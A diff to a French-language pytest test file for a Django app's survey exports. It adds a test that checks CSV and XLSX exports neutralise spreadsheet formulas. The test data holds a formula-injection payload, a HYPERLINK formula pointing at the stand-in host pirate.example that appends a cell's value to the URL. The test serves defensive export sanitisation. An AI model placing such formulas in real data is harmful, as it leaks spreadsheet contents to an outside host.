@@ -1,5 +1,6 @@
 import datetime
 import io
+import zipfile
 from html import unescape
 
 import pytest
@@ -360,3 +361,22 @@ def test_reminders_refuse_a_department_outside_the_perimeter(client, corresponda
     reponse = client.post(url("relances"), {"nature": "non_deposee", "departement": "01"})
     assert reponse.status_code == 400
     assert not Relance.objects.exists()
+
+
+# --- Exports sans formule (issue 12) ---
+
+
+def test_a_structure_named_like_a_formula_stays_text_in_both_exports(client, correspondant_69, campagne):
+    structure = StructureFactory(nom='=HYPERLINK("http://pirate.example/?"&A1,"Cliquez")')
+    reponse_deposee(campagne, structure, E01=3, E02=9.0)
+    client.force_login(correspondant_69)
+
+    classeur = client.get(url("exporter", "xlsx")).content
+    with zipfile.ZipFile(io.BytesIO(classeur)) as z:
+        assert "<f>" not in z.read("xl/worksheets/sheet1.xml").decode()
+    feuille = CalamineWorkbook.from_filelike(io.BytesIO(classeur)).get_sheet_by_index(0).to_python()
+    assert structure.nom in [ligne[1] for ligne in feuille]
+
+    lignes = client.get(url("exporter", "csv")).content.decode("utf-8-sig").splitlines()
+    ligne = next(ligne for ligne in lignes if "HYPERLINK" in ligne)
+    assert ";\"'=HYPERLINK(" in ligne
